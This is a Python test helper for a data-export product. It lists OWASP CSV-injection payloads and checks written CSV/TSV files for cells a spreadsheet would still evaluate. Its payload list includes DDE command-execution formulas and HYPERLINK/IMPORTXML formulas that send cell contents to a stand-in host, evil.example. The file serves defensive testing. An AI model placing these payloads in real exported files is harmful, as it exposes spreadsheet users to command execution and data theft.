"""Cells that try to run as spreadsheet formulas, and the check of a written file for any that would.

The product neutralises them on every CSV/TSV it writes (``qpr.data.spreadsheet``): tests write
these through it and ask ``live_cells`` for what a spreadsheet would still evaluate; the
reliability bench (``bench.reliability_ops``) counts the same.
"""

from __future__ import annotations

import csv
from pathlib import Path

from qpr.data.spreadsheet import TRIGGERS

# OWASP "CSV Injection" examples and variants, and texts that already begin with a quote.
OWASP_PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")', "=IMPORTXML(CONCAT(\"http://x/?\",A2),\"//a\")",
    "\t=1+1", "\r=1+1", "\r\n=1+1", "=\t1", "-1", "+44 20 7946 0000", "@user what is this?", "'=1+1", "''=1+1", "'",
    "'hello", "=", "==", "=-=+@", "how do i learn python? =1+1",
]


def live_cells(path: Path, sep: str) -> list[str]:
    """The cells of the file at ``path`` that a spreadsheet would evaluate (Python's csv module
    parses it as a spreadsheet does)."""
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle, delimiter=sep) for cell in row if cell.startswith(TRIGGERS)]
